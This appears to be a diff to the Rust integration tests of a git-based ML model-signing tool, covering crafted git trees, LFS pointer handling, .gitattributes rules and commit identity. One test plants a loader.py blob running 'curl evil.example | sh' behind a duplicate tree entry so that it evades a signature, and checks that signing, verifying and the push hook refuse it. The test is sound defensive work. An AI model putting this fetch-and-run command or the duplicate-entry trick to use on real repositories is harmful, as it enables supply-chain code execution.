@@ -73,6 +73,43 @@ impl Sandbox {
         String::from_utf8(run_ok(&mut self.git(dir, args)).stdout).unwrap()
     }
 
+    /// Runs git with `input` on its stdin; its stdout.
+    fn git_stdin(&self, dir: &Path, args: &[&str], input: &[u8]) -> String {
+        use std::io::Write;
+        let mut c = self.git(dir, args);
+        c.stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped());
+        let mut child = c.spawn().unwrap();
+        child.stdin.take().unwrap().write_all(input).unwrap();
+        let out = child.wait_with_output().unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+        String::from_utf8(out.stdout).unwrap()
+    }
+
+    /// Writes a tree object with exactly these (mode, name, object id) entries, in this
+    /// order: `git mktree` refuses crafted trees, `hash-object --literally` does not.
+    fn raw_tree(&self, dir: &Path, entries: &[(&str, &str, &str)]) -> String {
+        let mut raw = Vec::new();
+        for (mode, name, oid) in entries {
+            raw.extend_from_slice(format!("{mode} {name}\0").as_bytes());
+            raw.extend_from_slice(&hex::decode(oid.trim()).unwrap());
+        }
+        let args = ["hash-object", "-t", "tree", "--literally", "-w", "--stdin"];
+        self.git_stdin(dir, &args, &raw).trim().to_string()
+    }
+
+    /// The reference's `verify key` of `model` with `sig` and the sandbox's public key.
+    fn reference_verify(&self, model: &Path, sig: &Path) -> Command {
+        let mut c = reference_cli();
+        c.args(["verify", "key"])
+            .arg(model)
+            .arg("--signature")
+            .arg(sig)
+            .arg("--public_key")
+            .arg(&self.public);
+        c
+    }
+
     fn gms(&self, dir: &Path) -> Command {
         let mut c = git_model_sign();
         c.current_dir(dir);
@@ -123,7 +160,12 @@ impl Sandbox {
     }
 
     fn clone(&self, name: &str, skip_smudge: bool) -> PathBuf {
-        let mut c = self.git(&self.root, &["clone", "-q", "origin.git", name]);
+        self.clone_from("origin.git", name, skip_smudge)
+    }
+
+    /// Clones `src` (a path below the sandbox root) into `name`.
+    fn clone_from(&self, src: &str, name: &str, skip_smudge: bool) -> PathBuf {
+        let mut c = self.git(&self.root, &["clone", "-q", src, name]);
         if skip_smudge {
             c.env("GIT_LFS_SKIP_SMUDGE", "1");
         }
@@ -212,15 +254,7 @@ fn pointer_clone_signs_without_lfs_content_and_matches_a_checkout() {
     assert_eq!(lfs_object_count(&ptr), 0);
 
     // The reference verifies the git-made signature on a checkout with the LFS content.
-    let out = run_ok(
-        reference_cli()
-            .args(["verify", "key"])
-            .arg(&full)
-            .arg("--signature")
-            .arg(&sig)
-            .arg("--public_key")
-            .arg(&s.public),
-    );
+    let out = run_ok(&mut s.reference_verify(&full, &sig));
     assert!(
         stdout(&out).contains("Verification succeeded"),
         "{}",
@@ -238,28 +272,11 @@ fn pointer_clone_signs_without_lfs_content_and_matches_a_checkout() {
             .arg("--signature")
             .arg(&sig2),
     );
-    run_ok(
-        reference_cli()
-            .args(["verify", "key"])
-            .arg(&full)
-            .arg("--signature")
-            .arg(&sig2)
-            .arg("--public_key")
-            .arg(&s.public),
-    );
+    run_ok(&mut s.reference_verify(&full, &sig2));
 
     // A tampered pointer fails: the same signature against a checkout whose weight changed.
     std::fs::write(full.join("weights/model-2.bin"), b"second shard, edited").unwrap();
-    run_fails(
-        reference_cli()
-            .args(["verify", "key"])
-            .arg(&full)
-            .arg("--signature")
-            .arg(&sig)
-            .arg("--public_key")
-            .arg(&s.public),
-        1,
-    );
+    run_fails(&mut s.reference_verify(&full, &sig), 1);
 }
 
 #[test]
@@ -444,18 +461,11 @@ fn notes_store_and_tampering() {
     tampered[oid_at] = if tampered[oid_at] == b'0' { b'1' } else { b'0' };
     let tampered = String::from_utf8(tampered).unwrap();
     assert_ne!(tampered, real_pointer);
-    let mut hash = s.git(&work, &["hash-object", "-w", "--stdin"]);
-    hash.stdin(std::process::Stdio::piped())
-        .stdout(std::process::Stdio::piped());
-    let mut child = hash.spawn().unwrap();
-    use std::io::Write;
-    child
-        .stdin
-        .take()
-        .unwrap()
-        .write_all(tampered.as_bytes())
-        .unwrap();
-    let new_blob = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
+    let new_blob = s.git_stdin(
+        &work,
+        &["hash-object", "-w", "--stdin"],
+        tampered.as_bytes(),
+    );
     s.git_ok(
         &work,
         &[
@@ -583,15 +593,7 @@ fn commit_store_adds_a_self_verifying_commit() {
     // And the reference verifies the checkout with the committed signature file (it
     // knows no .gitignore, so the ignored scratch file goes first).
     std::fs::remove_file(work.join("notes.tmp")).unwrap();
-    run_ok(
-        reference_cli()
-            .args(["verify", "key"])
-            .arg(&work)
-            .arg("--signature")
-            .arg(work.join("model.sig"))
-            .arg("--public_key")
-            .arg(&s.public),
-    );
+    run_ok(&mut s.reference_verify(&work, &work.join("model.sig")));
     // Detached HEAD cannot take a commit.
     s.git_ok(&work, &["checkout", "-q", "--detach"]);
     let out = run_fails(
@@ -621,6 +623,7 @@ fn subfolder_symlinks_and_submodules() {
                 "key",
                 "--path",
                 "models/bert",
+                "--use-ignore-file",
                 "--store",
                 "notes",
                 "--private-key",
@@ -856,33 +859,499 @@ fn crafted_trees_are_refused_cleanly() {
     let s = Sandbox::new();
     let work = s.model_repo();
     let blob = s.git_ok(&work, &["rev-parse", "HEAD:config.json"]);
-    let blob = hex::decode(blob.trim()).unwrap();
-    for names in [&["a/b"][..], &[".."][..], &["same", "same"][..]] {
-        let mut raw = Vec::new();
-        for n in names {
-            raw.extend_from_slice(format!("100644 {n}\0").as_bytes());
-            raw.extend_from_slice(&blob);
-        }
-        let mut c = s.git(
-            &work,
-            &["hash-object", "-t", "tree", "--literally", "-w", "--stdin"],
-        );
-        c.stdin(std::process::Stdio::piped())
-            .stdout(std::process::Stdio::piped());
-        let mut child = c.spawn().unwrap();
-        use std::io::Write;
-        child.stdin.take().unwrap().write_all(&raw).unwrap();
-        let tree = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
-        assert_eq!(tree.trim().len(), 40, "{names:?}");
-        let commit = s.git_ok(&work, &["commit-tree", tree.trim(), "-m", "crafted"]);
+    let tree = s.git_ok(&work, &["rev-parse", "HEAD:weights"]);
+    let (b, t) = (blob.trim(), tree.trim());
+    let cases: &[&[(&str, &str, &str)]] = &[
+        &[("100644", "a/b", b)],
+        &[("100644", "..", b)],
+        &[("100644", "same", b), ("100644", "same", b)],
+        // git fsck's rules: a file and a folder of one name, apart in git's order...
+        &[("100644", "a", b), ("100644", "a.b", b), ("40000", "a", t)],
+        // ... and entries out of order.
+        &[("100644", "b", b), ("100644", "a", b)],
+        &[("40000", "a", t), ("100644", "a.b", b)],
+    ];
+    for entries in cases {
+        let tree = s.raw_tree(&work, entries);
+        let commit = s.git_ok(&work, &["commit-tree", &tree, "-m", "crafted"]);
         let out = run_fails(
             s.msign(&work).args(["digest", "--git-rev", commit.trim()]),
             3,
         );
+        let err = stderr(&out);
         assert!(
-            stderr(&out).contains("crafted tree"),
-            "{names:?}: {}",
-            stderr(&out)
+            err.contains("crafted tree") && err.contains(&tree),
+            "{entries:?}: {err}"
         );
     }
+    // A crafted tree above the model folder is refused too.
+    let root = s.raw_tree(&work, &[("40000", "models", t), ("40000", "models", t)]);
+    let commit = s.git_ok(&work, &["commit-tree", &root, "-m", "crafted"]);
+    let out = run_fails(
+        s.msign(&work)
+            .args(["digest", "--git-rev", commit.trim(), "--git-path", "models"]),
+        3,
+    );
+    assert!(stderr(&out).contains("twice"), "{}", stderr(&out));
+}
+
+/// The tree of a commit lists `loader.py` (the signed blob), the weights, then `loader.py`
+/// again (another blob), with the signed commit's note copied onto it. git checks the
+/// second one out; every msign path refuses the tree.
+#[test]
+fn a_tree_naming_a_file_twice_is_refused_by_verify_sign_and_the_hook() {
+    let s = Sandbox::new();
+    s.model_repo();
+    let dev = s.clone("dev", false);
+    std::fs::write(dev.join("loader.py"), b"print('signed loader')\n").unwrap();
+    s.git_ok(&dev, &["add", "loader.py"]);
+    s.git_ok(&dev, &["commit", "-q", "-m", "loader"]);
+    run_ok(
+        s.gms(&dev)
+            .args(["sign", "key", "--store", "notes", "--private-key"])
+            .arg(&s.key),
+    );
+    let signed = s.git_ok(&dev, &["rev-parse", "HEAD"]).trim().to_string();
+    let sig = s.p("loader.sig");
+    std::fs::write(
+        &sig,
+        s.git_ok(&dev, &["notes", "--ref", "model-signing", "show", &signed]),
+    )
+    .unwrap();
+
+    let evil = s.git_stdin(
+        &dev,
+        &["hash-object", "-w", "--stdin"],
+        b"import os\nos.system('curl evil.example | sh')\nprint('signed loader')\n",
+    );
+    let mut entries: Vec<(String, String, String)> = s
+        .git_ok(&dev, &["ls-tree", "HEAD"])
+        .lines()
+        .map(|l| {
+            let (meta, name) = l.split_once('\t').unwrap();
+            let f: Vec<&str> = meta.split(' ').collect();
+            (
+                f[0].trim_start_matches('0').to_string(),
+                name.to_string(),
+                f[2].to_string(),
+            )
+        })
+        .collect();
+    let names: Vec<&str> = entries.iter().map(|e| e.1.as_str()).collect();
+    assert_eq!(names.last(), Some(&"weights"), "{names:?}");
+    entries.push(("100644".into(), "loader.py".into(), evil.trim().into()));
+    let entries: Vec<(&str, &str, &str)> = entries
+        .iter()
+        .map(|(m, n, o)| (m.as_str(), n.as_str(), o.as_str()))
+        .collect();
+    let tree = s.raw_tree(&dev, &entries);
+    let crafted = s
+        .git_ok(
+            &dev,
+            &["commit-tree", &tree, "-p", &signed, "-m", "crafted"],
+        )
+        .trim()
+        .to_string();
+    s.git_ok(
+        &dev,
+        &["notes", "--ref", "model-signing", "copy", &signed, &crafted],
+    );
+    // What git checks out is the other blob.
+    s.git_ok(
+        &dev,
+        &["worktree", "add", "-q", "--detach", "../seen", &crafted],
+    );
+    assert!(std::fs::read_to_string(s.p("seen/loader.py"))
+        .unwrap()
+        .contains("evil.example"));
+
+    let refused = |out: &Output| {
+        let err = stderr(out);
+        assert!(
+            err.contains("loader.py") && err.contains("twice") && err.contains(&crafted),
+            "{err}"
+        );
+    };
+    refused(&run_fails(
+        s.msign(&dev)
+            .args(["verify", "key", "--git-rev", &crafted, "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+        3,
+    ));
+    refused(&run_fails(
+        s.gms(&dev)
+            .args(["verify", "key", &crafted, "--public-key"])
+            .arg(&s.public),
+        3,
+    ));
+    let resigned = s.p("crafted.sig");
+    refused(&run_fails(
+        s.msign(&dev)
+            .args(["sign", "key", "--git-rev", &crafted, "--private-key"])
+            .arg(&s.key)
+            .arg("--signature")
+            .arg(&resigned),
+        3,
+    ));
+    assert!(!resigned.exists());
+    // The honest commit still verifies.
+    run_ok(
+        s.msign(&dev)
+            .args(["verify", "key", "--git-rev", &signed, "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+    );
+
+    // The pre-push hook shares the path: pushing the crafted commit is refused.
+    run_ok(s.msign(&dev).args(["hook", "install", "--force"]));
+    s.git_ok(
+        &dev,
+        &["config", "msign.publicKey", s.public.to_str().unwrap()],
+    );
+    let out = run_fails(
+        &mut s.git(
+            &dev,
+            &["push", "origin", &format!("{crafted}:refs/heads/main")],
+        ),
+        1,
+    );
+    assert!(
+        stderr(&out).contains("refusing to push"),
+        "{}",
+        stderr(&out)
+    );
+    refused(&out);
+    let remote_main = s.git_ok(&s.root.join("origin.git"), &["rev-parse", "main"]);
+    assert_ne!(remote_main.trim(), crafted);
+    run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(bytes))
+}
+
+impl Sandbox {
+    /// The Git LFS pointer git-lfs writes for `content`, and the content's sha256.
+    fn lfs_pointer(&self, content: &[u8]) -> (String, String) {
+        let file = self.p("pointer-source");
+        std::fs::write(&file, content).unwrap();
+        let arg = format!("--file={}", file.display());
+        let pointer = self.git_ok(&self.root, &["lfs", "pointer", &arg]);
+        assert!(pointer.starts_with("version https://git-lfs"), "{pointer}");
+        (pointer, sha256_hex(content))
+    }
+}
+
+/// A regular blob that has the form of an LFS pointer, with no .gitattributes rule: a
+/// checkout holds the pointer text, so the revision is signed and verified as that text,
+/// and a signature of the real weights does not verify against it.
+#[test]
+fn pointer_text_without_an_lfs_rule_is_hashed_as_its_bytes() {
+    let s = Sandbox::new();
+    let weights: Vec<u8> = (0..50_000u32).map(|i| (i * 13 % 251) as u8).collect();
+    let (pointer, weights_sha) = s.lfs_pointer(&weights);
+
+    // The real model, signed.
+    let model = s.p("model");
+    std::fs::create_dir_all(&model).unwrap();
+    std::fs::write(model.join("weights.bin"), &weights).unwrap();
+    std::fs::write(model.join("config.json"), b"{}\n").unwrap();
+    let sig = s.p("model.sig");
+    run_ok(
+        s.msign(&s.root)
+            .args(["sign", "key", "model", "--private-key"])
+            .arg(&s.key)
+            .arg("--signature")
+            .arg(&sig),
+    );
+
+    // A repository holding the pointer text as an ordinary file.
+    let repo = s.p("plain");
+    std::fs::create_dir_all(&repo).unwrap();
+    s.git_ok(&repo, &["init", "-q"]);
+    std::fs::write(repo.join("weights.bin"), &pointer).unwrap();
+    std::fs::write(repo.join("config.json"), b"{}\n").unwrap();
+    s.git_ok(&repo, &["add", "."]);
+    s.git_ok(&repo, &["commit", "-q", "-m", "pointer text, no LFS rule"]);
+    assert_eq!(
+        s.git_ok(
+            &repo,
+            &["check-attr", "--source=HEAD", "filter", "--", "weights.bin"]
+        ),
+        "weights.bin: filter: unspecified\n"
+    );
+    let out = run_fails(
+        s.msign(&repo)
+            .args(["verify", "key", "--git-rev", "HEAD", "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+        1,
+    );
+    assert!(stderr(&out).contains("weights.bin"), "{}", stderr(&out));
+    run_fails(
+        s.gms(&repo)
+            .args(["verify", "key", "HEAD", "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+        1,
+    );
+
+    // The revision's manifest is the checkout's: the pointer text's own digest.
+    let out = run_ok(
+        s.msign(&repo)
+            .args(["--json", "digest", "--git-rev", "HEAD"]),
+    );
+    assert!(stderr(&out).contains("filter=lfs"), "{}", stderr(&out));
+    let from_git = digests_by_name(&out.stdout);
+    assert_eq!(from_git["weights.bin"], sha256_hex(pointer.as_bytes()));
+    assert_ne!(from_git["weights.bin"], weights_sha);
+    let checkout = s.clone_from("plain", "plain-checkout", false);
+    assert_eq!(
+        std::fs::read_to_string(checkout.join("weights.bin")).unwrap(),
+        pointer
+    );
+    let out = run_ok(
+        s.msign(&s.root)
+            .args(["--json", "digest", "plain-checkout"]),
+    );
+    let from_checkout = digests_by_name(&out.stdout);
+    assert_eq!(from_git, from_checkout);
+    // The checkout does not verify as the weights either.
+    run_fails(
+        s.msign(&s.root)
+            .args(["verify", "key", "plain-checkout", "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+        1,
+    );
+}
+
+/// .gitattributes at several levels, with negations: a pointer is LFS content exactly where
+/// `git check-attr` says `filter: lfs`, and the revision's manifest equals that of a real
+/// checkout (git-lfs smudging the routed files), which the reference verifies.
+#[test]
+fn gitattributes_at_every_level_decide_what_is_lfs_content_as_git_does() {
+    let s = Sandbox::new();
+    let weights: Vec<u8> = (0..40_000u32).map(|i| (i * 31 % 253) as u8).collect();
+    let (pointer, weights_sha) = s.lfs_pointer(&weights);
+    let work = s.p("mixed");
+    let files: &[(&str, &[u8])] = &[
+        (
+            ".gitattributes",
+            b"*.bin filter=lfs diff=lfs merge=lfs -text\nraw/*.bin !filter\n[attr]big filter=lfs -text\n*.pt big\n",
+        ),
+        // `lfs/*.bin` is anchored here, and `*` stops at `/`: not `lfs/more/m.bin`.
+        ("sub/.gitattributes", b"*.bin -filter\nlfs/*.bin filter=lfs\n"),
+        ("sub/lfs/more/.gitattributes", b"# nothing about filter\n*.bin -text\n"),
+        ("sub/other/.gitattributes", b"*.bin filter=other\n"),
+        // Real content on a routed path: git-lfs stores the object.
+        ("a.bin", &weights),
+    ];
+    let pointer_paths = [
+        "b.bin",
+        "deep/er/c.bin",
+        "raw/r.bin",
+        "sub/s.bin",
+        "sub/lfs/l.bin",
+        "sub/lfs/more/m.bin",
+        "sub/other/o.bin",
+        "w.pt",
+        "notes.txt",
+    ];
+    for (name, content) in files {
+        let p = work.join(name);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, content).unwrap();
+    }
+    for name in pointer_paths {
+        let p = work.join(name);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, &pointer).unwrap();
+    }
+    s.git_ok(&s.root, &["init", "-q", "--bare", "mixed.git"]);
+    s.git_ok(&work, &["init", "-q"]);
+    s.git_ok(&work, &["add", "."]);
+    s.git_ok(&work, &["commit", "-q", "-m", "mixed"]);
+    s.git_ok(&work, &["remote", "add", "origin", "../mixed.git"]);
+    s.git_ok(&work, &["push", "-q", "origin", "main"]);
+
+    // git's own verdict, path by path.
+    let mut routed = Vec::new();
+    for name in pointer_paths.iter().chain(["a.bin"].iter()) {
+        let attr = s.git_ok(
+            &work,
+            &["check-attr", "--source=HEAD", "filter", "--", name],
+        );
+        if attr.trim_end().ends_with(": filter: lfs") {
+            routed.push(*name);
+        }
+    }
+    assert_eq!(
+        routed,
+        ["b.bin", "deep/er/c.bin", "sub/lfs/l.bin", "w.pt", "a.bin"]
+    );
+    let out = run_ok(
+        s.msign(&work)
+            .args(["--json", "digest", "--git-rev", "HEAD"]),
+    );
+    let from_git = digests_by_name(&out.stdout);
+    for name in pointer_paths.iter().chain(["a.bin"].iter()) {
+        let want = if routed.contains(name) {
+            weights_sha.clone()
+        } else {
+            sha256_hex(pointer.as_bytes())
+        };
+        assert_eq!(from_git[*name], want, "{name}");
+    }
+
+    // A checkout with git-lfs smudging holds exactly that.
+    let full = s.clone_from("mixed.git", "mixed-checkout", false);
+    assert_eq!(std::fs::read(full.join("sub/lfs/l.bin")).unwrap(), weights);
+    assert_eq!(
+        std::fs::read_to_string(full.join("sub/s.bin")).unwrap(),
+        pointer
+    );
+    let out = run_ok(
+        s.msign(&s.root)
+            .args(["--json", "digest", "mixed-checkout"]),
+    );
+    let from_checkout = digests_by_name(&out.stdout);
+    assert_eq!(from_git, from_checkout);
+
+    // Signed from the revision (pointers only, no LFS object needed), verified by the
+    // reference on the checkout.
+    let ptr = s.clone_from("mixed.git", "mixed-pointers", true);
+    let sig = s.p("mixed.sig");
+    run_ok(
+        s.msign(&ptr)
+            .args(["sign", "key", "--git-rev", "HEAD", "--private-key"])
+            .arg(&s.key)
+            .arg("--signature")
+            .arg(&sig),
+    );
+    assert_eq!(lfs_object_count(&ptr), 0);
+    run_ok(&mut s.reference_verify(&full, &sig));
+
+    // A followed link takes its target's content, filtered by the target's attributes, not
+    // by its own: `sub/lfs/s-link.bin` matches `lfs/*.bin`, its target `sub/s.bin` does not.
+    std::os::unix::fs::symlink("../s.bin", work.join("sub/lfs/s-link.bin")).unwrap();
+    std::os::unix::fs::symlink("sub/lfs/l.bin", work.join("l-link.bin")).unwrap();
+    s.git_ok(&work, &["add", "."]);
+    s.git_ok(&work, &["commit", "-q", "-m", "links"]);
+    s.git_ok(&work, &["push", "-q", "origin", "main"]);
+    let linked = s.clone_from("mixed.git", "mixed-links", false);
+    let out =
+        run_ok(
+            s.msign(&work)
+                .args(["--json", "digest", "--allow-symlinks", "--git-rev", "HEAD"]),
+        );
+    let from_git = digests_by_name(&out.stdout);
+    assert_eq!(
+        from_git["sub/lfs/s-link.bin"],
+        sha256_hex(pointer.as_bytes())
+    );
+    assert_eq!(from_git["l-link.bin"], weights_sha);
+    let out = run_ok(
+        s.msign(&s.root)
+            .args(["--json", "digest", "--allow-symlinks"])
+            .arg(&linked),
+    );
+    assert_eq!(from_git, digests_by_name(&out.stdout));
+}
+
+/// With no identity in any git configuration, `--store notes|commit` takes it from
+/// GIT_AUTHOR_*/GIT_COMMITTER_* as git does (CI machines often set only those).
+#[test]
+fn git_identity_comes_from_the_environment_as_git_takes_it() {
+    let s = Sandbox::new();
+    let work = s.model_repo();
+    s.git_ok(&s.root, &["config", "--global", "--unset", "user.name"]);
+    s.git_ok(&s.root, &["config", "--global", "--unset", "user.email"]);
+    let no_identity = |mut c: Command| -> Command {
+        for v in ["NAME", "EMAIL", "DATE"] {
+            c.env_remove(format!("GIT_AUTHOR_{v}"))
+                .env_remove(format!("GIT_COMMITTER_{v}"));
+        }
+        c.env_remove("EMAIL");
+        c
+    };
+    let from_env = |c: Command| -> Command {
+        let mut c = no_identity(c);
+        c.env("GIT_AUTHOR_NAME", "CI Author")
+            .env("GIT_AUTHOR_EMAIL", "author@ci.example")
+            .env("GIT_COMMITTER_NAME", "CI Bot")
+            .env("GIT_COMMITTER_EMAIL", "bot@ci.example")
+            .env("GIT_COMMITTER_DATE", "1700000000 +0100");
+        c
+    };
+    let sign = |store: &str| {
+        let mut c = s.gms(&work);
+        c.args(["sign", "key", "--store", store, "--private-key"])
+            .arg(&s.key);
+        c
+    };
+
+    let format = "%an <%ae>|%cn <%ce>|%cI";
+    let who = "CI Author <author@ci.example>|CI Bot <bot@ci.example>|2023-11-14T23:13:20+01:00";
+    run_ok(&mut from_env(sign("notes")));
+    let notes_log = s.git_ok(
+        &work,
+        &[
+            "log",
+            "-1",
+            &format!("--format={format}"),
+            "refs/notes/model-signing",
+        ],
+    );
+    assert_eq!(notes_log.trim(), who);
+    run_ok(&mut from_env(sign("commit")));
+    let log = s.git_ok(&work, &["log", "-1", &format!("--format={format}")]);
+    assert_eq!(log.trim(), who);
+    run_ok(
+        s.gms(&work)
+            .args(["verify", "key", "--public-key"])
+            .arg(&s.public),
+    );
+
+    // The configuration still counts, below the environment: author.* over user.*.
+    s.git_ok(&work, &["config", "user.name", "Config User"]);
+    s.git_ok(&work, &["config", "user.email", "user@config.example"]);
+    s.git_ok(&work, &["config", "author.name", "Config Author"]);
+    let head = s.git_ok(&work, &["rev-parse", "HEAD"]).trim().to_string();
+    let mut c = no_identity(sign("notes"));
+    c.env("GIT_COMMITTER_NAME", "Env Committer");
+    run_ok(&mut c);
+    let notes_log = s.git_ok(
+        &work,
+        &[
+            "log",
+            "-1",
+            "--format=%an <%ae>|%cn <%ce>",
+            "refs/notes/model-signing",
+        ],
+    );
+    assert_eq!(
+        notes_log.trim(),
+        "Config Author <user@config.example>|Env Committer <user@config.example>"
+    );
+    let notes = s.git_ok(&work, &["notes", "--ref", "model-signing", "list"]);
+    assert!(notes.contains(&head), "{notes}");
+
+    // No identity anywhere (configuration removed again): the error says how to give one.
+    for key in ["user.name", "user.email", "author.name"] {
+        s.git_ok(&work, &["config", "--unset", key]);
+    }
+    let out = run_fails(&mut no_identity(sign("notes")), 2);
+    let err = stderr(&out);
+    assert!(
+        err.contains("git needs an identity") && err.contains("GIT_COMMITTER_NAME"),
+        "{err}"
+    );
 }
